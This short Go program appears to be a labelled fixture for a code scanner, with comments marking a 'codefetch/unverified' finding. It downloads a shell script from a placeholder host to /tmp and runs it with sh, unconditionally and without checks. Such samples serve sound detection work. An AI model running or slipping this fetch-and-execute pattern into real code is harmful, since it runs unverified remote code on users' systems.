// Command script-for-shell has a shell run what it fetches.
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	resp, err := http.Get("https://dl.collector.example/setup.sh") // behaviour: unconditional unknown // finding: codefetch/unverified
	if err != nil {
		return
	}
	defer resp.Body.Close()
	file, err := os.Create("/tmp/setup.sh")
	if err != nil {
		return
	}
	io.Copy(file, resp.Body)
	file.Close()
	exec.Command("sh", "/tmp/setup.sh").Run()
}
